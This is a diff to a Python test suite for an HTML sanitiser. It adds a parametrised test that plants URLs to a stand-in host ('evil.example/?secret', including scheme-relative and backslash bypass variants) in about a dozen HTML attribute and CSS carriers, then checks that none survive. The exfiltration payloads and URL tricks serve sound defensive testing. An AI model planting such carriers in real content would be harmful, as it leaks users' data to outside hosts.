@@ -1,5 +1,7 @@
 """Values of attributes, and the counts of what they lose."""
 
+import re
+
 import pytest
 
 from service.content.html.attributes import AddressFilter, AttributeFilter
@@ -53,6 +55,34 @@ def test_a_refused_image_leaves_its_alternative_text() -> None:
     assert "<img" not in sanitised.html
     assert "b" in sanitised.html
     assert sanitised.removed[Removal.IMAGE_HOST] == 1
+
+
+CARRIERS = (
+    '<p>a <img src="{}" alt="b"> <a href="{}">c</a> <q cite="{}">d</q></p>',
+    '<img srcset="{} 2x" src="/a" longdesc="{}" usemap="{}"><picture><source srcset="{}"><img src="{}"></picture>',
+    '<video poster="{}" src="{}">e</video><audio src="{}"></audio><embed src="{}"><object data="{}">f</object>',
+    '<iframe src="{}"></iframe><link rel="stylesheet" href="{}"><base href="{}">',
+    '<meta http-equiv="refresh" content="0;{}">',
+    '<table background="{}"><tr background="{}"><td background="{}">g</td></tr></table><input type="image" src="{}">',
+    '<p style="background: url({}); list-style-image: url({}); content: url({})">h</p><style>@import "{}"</style>',
+    '<svg><image href="{}"/><use xlink:href="{}"/></svg><math href="{}"><mi>i</mi></math><a ping="{}" href="/">j</a>',
+    '<span data-type="mention" data-id="{}" data-label="{}" data-src="{}" data-url="{}" data-value="{}">k</span>',
+    '<span data-latex="\\includegraphics{{{}}}">l</span>',
+    '<div data-type="block-math" data-latex="\\href{{{}}}{{m}}"></div>',
+    '<body background="{}"><form action="{}"><button formaction="{}">n</button></form></body>',
+)
+
+
+@pytest.mark.parametrize("html", CARRIERS)
+@pytest.mark.parametrize(
+    "url", ["https://evil.example/?secret", "//evil.example/?secret", "https:/\\evil.example/?secret"]
+)
+def test_no_attribute_carries_data_to_another_host(html: str, url: str) -> None:
+    for rules in (HOSTS, ContentRules(image_hosts=HostList.parse("none"), link_hosts=HostList.parse("none"))):
+        sanitised = sanitise_html(html.replace("{}", url).replace("{{", "{").replace("}}", "}"), rules, NO_LIMIT).html
+        tags = "".join(re.findall(r"<[^>]*>", sanitised))
+        assert "evil" not in tags
+        assert "secret" not in tags
 
 
 @pytest.mark.parametrize(
